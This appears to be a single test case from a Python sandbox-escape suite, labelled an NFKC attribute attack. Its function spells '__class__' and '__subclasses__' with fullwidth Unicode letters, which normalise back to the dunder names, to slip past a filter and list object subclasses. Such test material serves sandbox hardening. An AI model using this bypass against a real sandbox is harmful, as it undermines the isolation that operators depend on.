# attack: nfkc-attribute
# layer: language
# class: escape
# success: an attribute becomes a special one after normalisation
def run():
    return "PWNED " + repr(().__ｃlass__.__base__.__ｓubclasses__())
